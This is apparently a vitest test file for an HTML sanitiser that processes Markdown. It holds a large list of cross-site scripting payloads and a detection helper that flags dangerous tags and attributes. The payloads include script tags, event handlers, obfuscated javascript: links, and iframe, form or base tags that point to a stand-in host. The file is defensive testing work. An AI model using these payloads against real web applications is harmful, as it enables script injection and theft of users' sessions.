import { describe, expect, it } from 'vitest';
import { makeHtmlSafe } from './safe-html.ts';
import { stripHtml } from './strip-html.ts';

/** What a browser would run or load when it reads this as HTML; deliberately another way than the product's. */
function live(html: string): string[] {
  const tags = html.replaceAll('&lt;', ' ').match(/<\/?[a-z](?:"[^"]*"|'[^']*'|[^'">])*>/gi) ?? [];
  return tags.filter((tag) => {
    const plain = tag.replace(/&#x?[0-9a-f]+;?/gi, '!').toLowerCase();
    return (
      /^<(script|style|iframe|object|embed|svg|math|form|input|base|meta|link|template|button)\b/.test(plain) ||
      /[\s/"']on[a-z]+\s*=/.test(plain) ||
      /(javascript|vbscript|data:text|!)/.test(plain) ||
      /\b(srcdoc|formaction|style|srcset|action|xlink:href)\s*=/.test(plain)
    );
  });
}

describe('Markdown stays byte for byte', () => {
  it.each([
    '# Title\n\nText with *emphasis*, **weight**, `code` and ~~struck~~.\n\n- a\n- b\n  - c\n\n1. x\n2. y\n',
    'A | B\n--|--\n1 | 2\n',
    '> quoted\n> more\n\n---\n\nTwo  \nlines',
    '[site](https://example.org "title"), ![pic](https://example.org/a.png), <https://example.org/a?b=c&d=e>',
    '[ref]: https://example.org\n\n[x][ref] and <anna@example.org>',
    "```sql\nselect '<script>alert(1)</script>' from a where x < y\n```\n\nafter",
    '~~~\n<img src=x onerror=alert(1)>\n~~~',
    'Inline `<img src=x onerror=alert(1)>` is code, and ``a ` <script>`` too.',
    'array<string>, map<string,array<struct<a:int,b:string>>> and a < b > c, x<y, i<=3, <3',
    'Ledger & <b>tax</b>',
    '<b>bold</b><br><br/>\n<p class="lead">para</p> <font color="red">x</font> <span style="color: red">x</span>',
    '<a href="https://example.org" target="_blank" rel="noopener">link</a> <img src="a.png" alt="A &amp; B" width=10>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<details open><summary>More</summary>\n\ntext\n\n</details>',
    '<table border="1"><tr><td colspan=2>x</td></tr></table>',
    'Umlaute äöü, 漢字, emoji 🙂, tabs\tand\r\nline ends\r\n',
    'owner: <owner of the table>, host: <host>:<port>',
    'C:\\path\\to, 50 % of "all" & \'some\'; time 10:30 &nbsp; &lt;b&gt;',
    '',
  ])('%j', (text) => {
    expect(makeHtmlSafe(text)).toBe(text);
  });
});

describe('attacks', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<ScRiPt >alert(1)</sCrIpT\n>',
    '<script src=//x.example></script >',
    '<script>alert(1)',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<scr<scr<scr<script>ipt>ipt>ipt>alert(1)',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img src="x"onerror="alert(1)">',
    "<img src='x'onerror='alert(1)'>",
    '<img src=`x` onerror=alert(1)>',
    '<img title=">" src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1) ',
    '<img src=x onerror=alert(1)//',
    '<img src=x:x onerror=alert(1)\n\n',
    '<x onclick=alert(1)>press</x>',
    '<a onmouseover=alert(1) href=#>x</a>',
    '<details ontoggle=alert(1) open>x',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg:script>alert(1)</svg:script>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<style>@import "//x.example/x.css"</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:red;background:\\75rl(//x.example)">x</p>',
    '<iframe src="//x.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,x"></object>',
    '<embed src="//x.example/x.swf">',
    '<form action="//x.example"><input name=p></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="//x.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="//x.example/x.css">',
    '<template><script>alert(1)</script></template>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=javascript:alert(1)>x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&#x73;cript:alert(1)">x</a>',
    '<a href="java&#115cript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java&amp;#115;cript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="x" href="javascript:alert(1)">x</a>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<a<b onclick=alert(1)>x</a>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- x --!><img src=x onerror=alert(1)>',
    '<!-- <img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?x <img src=x onerror=alert(1)> ?>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '</p onclick=alert(1)>',
    '<x:/onmouseover=alert(1)//>x</x:>',
  ];

  it.each(attacks)('%j', (attack) => {
    for (const text of [attack, `before ${attack} after`, `<div>\n${attack}\n</div>`, `a\n\n${attack}\n\nb`]) {
      expect(live(makeHtmlSafe(text))).toEqual([]);
      expect(live(stripHtml(text))).toEqual([]);
    }
  });

  it.each([
    // Each looks like code at first, and is none for a reader of Markdown.
    '\\`<img src=x onerror=alert(1)>\\`',
    '<div>\n`<img src=x onerror=alert(1)>`\n</div>',
    '<pre>\n\n`<img src=x onerror=alert(1)>`\n\n</pre>',
    '> <div>\n> `<img src=x onerror=alert(1)>`',
    '- <div>\n  `<img src=x onerror=alert(1)>`',
    'a ``` b\n\n<img src=x onerror=alert(1)>\n\nc ```',
    '> ```\n<img src=x onerror=alert(1)>\n> ```',
    '1. x\n   ```\n<img src=x onerror=alert(1)>\n```',
    'foo `bar\nbaz` <img src=x onerror=alert(1)> `qux`',
    '[a]: /x`\nfoo <img src=x onerror=alert(1)> `bar',
    '| `a | <img src=x onerror=alert(1)> | b` |\n|--|--|--|\n',
    'x <b title="`"><img src=x onerror=alert(1)>`</b>',
    'x <!-- ` --> <img src=x onerror=alert(1)> `',
    '<https://x`> <img src=x onerror=alert(1)> `',
    'see <`a@b.example> <img src=x onerror=alert(1)> `',
    '``a`<img src=x onerror=alert(1)>``b`<img src=x onerror=alert(1)>',
    '<!--\n```\n-->\n<img src=x onerror=alert(1)>\n```',
  ])('code that is none: %j', (text) => {
    expect(makeHtmlSafe(text)).not.toMatch(/<img src=x onerror=alert\(1\)>(?!``b`)/);
  });

  it.each([
    ['[x](javascript:alert)', '[x](#)'],
    ['[x](JavaScript:alert(1))', '[x](#))'],
    ['[x]( java&#115;cript:alert "t")', '[x]( # "t")'],
    ['[x](javascript\\:alert)', '[x](#)'],
    ['[x](<javascript:a b>)', '[x](#)'],
    ['![x](data:text/html,x)', '![x](#)'],
    ['[x]: javascript:alert(1)', '[x]: #)'],
    ['<javascript:alert(1)>', '&lt;javascript:alert(1)>'],
    ['`[x](javascript:alert)`', '`[x](javascript:alert)`'],
    ['[x](https://example.org/javascript:y)', '[x](https://example.org/javascript:y)'],
  ])('Markdown’s links: %j becomes %j', (text, safe) => {
    expect(makeHtmlSafe(text)).toBe(safe);
  });

  it.each([
    // What a browser and a reader of Markdown see differs: lines of a quote, paragraphs within a value, odd names.
    ['> <img\n> src=x onerror=alert(1)>', '> <img> src=x onerror=alert(1)>'],
    ['<b title="<img src=x onerror=alert(1)>">x</b>', '<b title="&lt;img src=x onerror=alert(1)>">x</b>'],
    ['<div title="\n\n[a](/onmouseover=alert(1)/)\n\n">', '<div title=" [a](/onmouseover=alert(1)/) ">'],
    ['<div title="\n\n[a](/onmouseover=alert(1)/)', '&lt;div title="\n\n[a](/onmouseover=alert(1)/)'],
    ['<div>\n<a<![b](/onmouseover=alert(1)/)>', '<div>\n&lt;a<![b](/onmouseover=alert(1)/)>'],
    ['<a\n  href="https://example.org"\n>x</a>', '<a href="https://example.org">x</a>'],
  ])('read in two ways: %j becomes %j', (text, safe) => {
    expect(makeHtmlSafe(text)).toBe(safe);
  });

  it('keeps what is harmless of a tag, and the words around', () => {
    expect(makeHtmlSafe('<a href="https://example.org" onclick="x()" style="top:0">go</a>')).toBe(
      '<a href="https://example.org">go</a>',
    );
    expect(makeHtmlSafe('one <script>x</script> two <form>three</form>')).toBe('one  two three');
  });

  it('shows words in brackets that are names of elements', () => {
    expect(makeHtmlSafe('copy from <source> to <target>, see <title> and <object>')).toBe(
      'copy from &lt;source> to <target>, see &lt;title> and &lt;object>',
    );
    expect(makeHtmlSafe('a <script>alert(1)')).toBe('a &lt;script>alert(1)');
  });

  it('written entities do not become tags where HTML is stripped', () => {
    expect(stripHtml('a &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &lt; b')).toBe(
      'a &lt;script>alert(1)&lt;/script> &#60;img src=x onerror=alert(1)> < b',
    );
  });

  it('takes little work for long texts of nothing but beginnings', () => {
    for (const piece of ['<a ', '<a "', '<!--', '`', '[x](', '<scr', '<svg>', '&#', '<a b=', '```\n']) {
      expect(makeHtmlSafe(`${piece.repeat(20_000)}\n\nend`)).toContain('end');
    }
  });
});
